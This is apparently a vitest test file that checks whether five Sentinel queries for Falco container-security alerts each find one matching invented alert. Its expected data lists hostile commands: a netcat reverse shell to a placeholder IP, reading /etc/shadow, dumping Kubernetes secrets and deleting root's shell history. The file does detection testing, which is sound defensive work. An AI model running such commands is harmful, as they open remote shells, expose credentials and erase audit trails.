import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { factsAvailable, factsFolder } from '../../support/facts.ts';
import { alerts } from './invented-alerts.ts';
import { rowsOver, runOver } from './parser-run.ts';

/** The queries of the article on Sentinel, as they stand there: from their comment to the empty line. */
function articleQueries(): string[] {
  const folder = join(factsFolder()!, 'seeds');
  const file = readdirSync(folder).find((name) => name.startsWith('000'))!;
  const text = readFileSync(join(folder, file), 'utf8').replaceAll('\r', '');
  return text.match(/^\/\/Falco run-time[\s\S]*?(?=\n\n)/gm) ?? [];
}

/** What must be found of each use case: one alert, told by the text of its command or file. */
const expected: readonly (readonly [column: string, value: string])[] = [
  ['command', 'nc -e /bin/sh 203.0.113.9 4444'],
  ['file', '/etc/shadow'],
  ['command', 'ssh-keygen -t ed25519'],
  ['cmdline', 'kubectl get secrets -A'],
  ['command', 'rm /root/.bash_history'],
];

const available = factsAvailable('queries of the article');

describe.runIf(available).each(['cef', 'json'] as const)(
  'the five queries of the article over %s',
  (transport) => {
    const queries = available ? articleQueries() : [];

    it('are five', () => expect(queries).toHaveLength(5));

    it.each(expected)('use case %# finds one alert', (column, value) => {
      const index = expected.findIndex((item) => item[1] === value);
      const query = queries[index]!;
      const answer = runOver(query, alerts, transport);
      expect(answer.ok ? 'ran' : answer.error).toBe('ran');
      expect(rowsOver(query, alerts, transport)).toHaveLength(1);
      const activity = /Activity == "([^"]+)"/.exec(query)![1]!;
      const found = rowsOver(`FalcoContainerSecurity | where Activity == "${activity}"`, alerts, transport);
      expect(found.map((row) => row[column])).toContain(value);
    });
  },
);

it.skipIf(available)('is skipped: no folder of measured facts (set FALCO_FACTS)', () => undefined);
